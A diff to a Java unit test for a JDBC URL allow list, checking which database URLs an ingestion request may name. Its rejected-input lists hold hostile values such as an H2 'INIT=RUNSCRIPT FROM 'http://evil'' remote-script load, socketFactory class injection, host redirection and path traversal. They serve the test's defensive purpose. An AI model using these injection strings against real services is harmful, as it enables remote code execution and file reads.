@@ -5,16 +5,35 @@ import static org.assertj.core.api.Assertions.assertThatCode;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import io.rowmill.core.failure.FailureException;
+import io.rowmill.ingest.quarkus.IngestConfig;
 import io.rowmill.ingest.source.JdbcUrl;
+import io.smallrye.config.WithDefault;
+import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
+import org.hsqldb.DatabaseURL;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Which databases a request may name, what it may add to their URLs, and where passwords go. */
 class SourceAccessTest {
-    private static final JdbcAllowList DEFAULT = new JdbcAllowList(List.of("jdbc:postgresql:", "jdbc:hsqldb:hsql:"));
+    private static final JdbcAllowList DEFAULT = new JdbcAllowList(defaults());
+
+    /** The list that applies where nobody sets one. */
+    private static List<String> defaults() {
+        try {
+            String list = IngestConfig.class
+                    .getMethod("jdbcAllow")
+                    .getAnnotation(WithDefault.class)
+                    .value();
+            return List.of(list.split(","));
+        } catch (NoSuchMethodException e) {
+            throw new IllegalStateException(e);
+        }
+    }
 
     @ParameterizedTest
     @ValueSource(
@@ -43,6 +62,10 @@ class SourceAccessTest {
                 "jdbc:postgresql://db:5432/shop?user=me",
                 "jdbc:postgresql://db/shop?sslmode=verify-full&currentSchema=sales&connectTimeout=5",
                 "jdbc:postgresql:shop",
+                "jdbc:postgresql:///shop",
+                "jdbc:postgresql://db,standby:5433/shop?targetServerType=primary&currentSchema=sales,public",
+                "jdbc:postgresql://[::1]:5432/shop",
+                "jdbc:hsqldb:hsql://db",
                 "jdbc:hsqldb:hsql://db:9001/shop;ifexists=true"
             })
     void whatIsHarmlessIsLetIn(String url) {
@@ -62,6 +85,31 @@ class SourceAccessTest {
                 "jdbc:postgresql://db/shop?PGHOST=evil",
                 "jdbc:postgresql:///shop?service=other",
                 "jdbc:postgresql://db/shop?currentSchema=a&currentSchema=b",
+                "jdbc:postgresql://db/shop?socketFactory",
+                "jdbc:postgresql://db/shop?user=me&gssEncMode",
+                "jdbc:postgresql://db/shop?=x",
+                "jdbc:postgresql://db/shop?ApplicationName=a;socketFactory=org.x.Y",
+                "jdbc:postgresql://db/shop;socketFactory=org.x.Y",
+                "jdbc:postgresql://db/shop?jaasLogin=true&jaasApplicationName=x",
+                "jdbc:postgresql://db/shop?loginTimeout=0",
+                "jdbc:postgresql://db/shop?user=me&ssl=false",
+                "jdbc:postgresql://db",
+                "jdbc:postgresql://db:port/shop",
+                "jdbc:postgresql:/etc/x",
+                "jdbc:hsqldb:hsql:x",
+                "jdbc:hsqldb:hsql:/tmp/x",
+                "jdbc:hsqldb:hsql:x;ifexists=true",
+                "jdbc:hsqldb:hsql://${user.name}.evil/x",
+                "jdbc:hsqldb:hsql://db/../x",
+                "jdbc:hsqldb:hsql://db/x;connection_type=file:;database=/tmp/x",
+                "jdbc:hsqldb:hsql://db/x;shutdown",
+                "jdbc:hsqldb:hsql://db:port/x",
+                "jdbc:hsqldb:HSQL:x",
+                "jdbc:hsqldb: hsql://db/x",
+                "jdbc:hsqldb:.",
+                "jdbc:hsqldb:alias:x",
+                "jdbc:hsqldb:http://db/x",
+                "jdbc:hsqldb:x",
                 "jdbc:hsqldb:file:/tmp/x",
                 "jdbc:hsqldb:res:chinook",
                 "jdbc:hsqldb:mem:x",
@@ -72,6 +120,96 @@ class SourceAccessTest {
             })
     void aRequestReadsNoFileRunsNoCodeAndWeakensNothing(String url) {
         assertThatThrownBy(() -> DEFAULT.entryFor(new JdbcUrl(url))).isInstanceOf(FailureException.class);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiterString = " -> ",
+            value = {
+                "jdbc:postgresql://db -> jdbc:postgresql://db/shop",
+                "jdbc:postgresql://db/ -> jdbc:postgresql://db/shop?user=me",
+                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop?user=me",
+                "jdbc:postgresql://db/shop?sslmode=disable -> jdbc:postgresql://db/shop?sslmode=disable&user=me",
+                "jdbc:hsqldb:hsql: -> jdbc:hsqldb:hsql://db/shop",
+                "jdbc:hsqldb:hsql://db/shop;Ifexists=TRUE -> jdbc:hsqldb:hsql://db/shop;Ifexists=TRUE;user=me",
+                "jdbc:hsqldb:hsql://db/apps/ -> jdbc:hsqldb:hsql://db/apps/shop",
+                "jdbc:hsqldb:file:/data/shop -> jdbc:hsqldb:file:/data/shop",
+                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/shop;IFEXISTS=TRUE",
+                "jdbc:oracle:thin:@db:1521/shop -> jdbc:oracle:thin:@db:1521/shop?connectTimeout=5",
+                "jdbc:mysql:// -> jdbc:mysql://db/shop"
+            })
+    void anEntryLetsInWhatItSays(String entry, String url) {
+        assertThat(new JdbcAllowList(List.of(entry)).entryFor(new JdbcUrl(url))).isEqualTo(entry);
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiterString = " -> ",
+            value = {
+                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop;user=me",
+                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop&x=y",
+                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop/x",
+                "jdbc:postgresql://good -> jdbc:postgresql://good.evil/x",
+                "jdbc:postgresql://good -> jdbc:postgresql://good@evil/x",
+                "jdbc:postgresql://good -> jdbc:postgresql://good,evil/x",
+                "jdbc:postgresql://good:5432 -> jdbc:postgresql://good:5432,evil/x",
+                "jdbc:postgresql://good/ -> jdbc:postgresql://good/x?PGHOST=evil",
+                "jdbc:hsqldb: -> jdbc:hsqldb:file:/tmp/x",
+                "jdbc:hsqldb:file: -> jdbc:hsqldb:file:/tmp/x",
+                "jdbc:hsqldb:hsql: -> jdbc:hsqldb:hsql:x",
+                "jdbc:hsqldb:file:/data/ -> jdbc:hsqldb:file:/data/../x",
+                "jdbc:hsqldb:hsql://db/shop -> jdbc:hsqldb:hsql://db/shop/x",
+                "jdbc:hsqldb:hsql://db/shop -> jdbc:hsqldb:hsql://db/shop?x=y",
+                "jdbc:hsqldb:hsql://db/apps/ -> jdbc:hsqldb:hsql://db/apps/../x",
+                "jdbc:h2: -> jdbc:h2:tcp://db/shop",
+                "jdbc:h2: -> jdbc:h2:/tmp/x",
+                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;INIT=RUNSCRIPT FROM 'http://evil'",
+                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;user=a\\;iniT=x",
+                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;INIT",
+                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;TRACE_LEVEL_FILE=3",
+                "jdbc:h2:tcp://db/data/ -> jdbc:h2:tcp://db/data/../../etc/x",
+                "jdbc:mysql: -> jdbc:mysql:replication://db/shop"
+            })
+    void anEntryLetsInNothingElse(String entry, String url) {
+        JdbcAllowList one = new JdbcAllowList(List.of(entry));
+        assertThatThrownBy(() -> one.entryFor(new JdbcUrl(url))).isInstanceOf(FailureException.class);
+    }
+
+    /** The kind of fault: what the list takes for a server, its driver opens as something else. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "jdbc:hsqldb:hsql:",
+                "jdbc:hsqldb:hsql://",
+                "jdbc:hsqldb:hsqls:",
+                "jdbc:hsqldb:http:",
+                "jdbc:hsqldb:"
+            })
+    void noEntryOfServersOpensAFile(String entry, @TempDir Path dir) throws Exception {
+        // Given: whatever comes behind it, including what reads as a path
+        JdbcAllowList one = new JdbcAllowList(List.of(entry));
+        List<String> rests =
+                List.of("x", "/x", "//x", ".", "file:x", "//../x", "/" + dir + "/x", dir + "/x;ifexists=true");
+
+        // When
+        for (String rest : rests) {
+            JdbcUrl url = new JdbcUrl(entry + rest);
+            boolean in;
+            try {
+                in = one.entryFor(url) != null;
+            } catch (FailureException e) {
+                in = false;
+            }
+
+            // Then
+            assertThat(in && !url.text().equals(entry) && DatabaseURL.isInProcessDatabaseType(type(url)))
+                    .as(url.text())
+                    .isFalse();
+        }
+    }
+
+    private static String type(JdbcUrl url) {
+        return DatabaseURL.parseURL(url.text(), true, false).getProperty("connection_type");
     }
 
     @Test
